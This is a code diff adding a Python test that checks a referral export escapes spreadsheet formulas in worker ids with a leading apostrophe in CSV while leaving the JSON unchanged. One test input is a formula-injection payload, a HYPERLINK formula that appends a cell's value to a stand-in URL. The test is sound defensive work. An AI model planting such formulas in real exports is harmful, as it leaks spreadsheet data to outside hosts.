@@ -411,6 +411,26 @@ async def test_list_3_counts_referrals_and_shows_the_allocation_at_the_referral(
     assert counts == [0, 1, 2]
 
 
+async def test_a_worker_id_a_spreadsheet_would_run_is_written_as_text(fd: FrontDoor) -> None:
+    """Worker ids are identity-provider subjects, which may begin with `-` or `+` (base64url or
+    base64 text): not refused, but the CSV cell starts with `'` so a spreadsheet shows it as text
+    and runs no formula. The JSON gives the id as it is."""
+    await fd.team("FD-WEST")
+    workers = ['=HYPERLINK("https://example.invalid/?"&A2,"Open")', "-w1", "+w2", "@w3", "w4"]
+    for i, worker in enumerate(workers):
+        received = at(f"2025-09-0{i + 1}T10:00:00Z")
+        (contact,) = await contact_at(fd, received, new_children=[child_body(given_name="Ada")])
+        body = {"team_id": "FD-WEST", "worker_id": worker, "effective_at": iso(received)}
+        await post_at(fd, received, f"/journeys/{contact['journey_id']}/allocation", body, fd.mgr)
+        await refer_at(fd, contact, received + timedelta(minutes=5))
+    window = {"from": "2025-09-01", "to": "2025-09-30"}
+    lines = csv_lines(await export(fd, "/annex-a/referrals", **window))
+    assert [line[-1] for line in lines[1:]] == ["'" + w for w in workers[:-1]] + ["w4"]
+    assert [line[-2] for line in lines[1:]] == ["Team FD-WEST"] * len(workers)
+    rows = (await export(fd, "/annex-a/referrals", JSON, **window)).json()["rows"]
+    assert [row["allocated_worker"] for row in rows] == workers
+
+
 async def test_the_lists_are_documented_in_openapi(fd: FrontDoor) -> None:
     doc = fd.client.app.openapi()  # type: ignore[attr-defined]
     schemas = doc["components"]["schemas"]
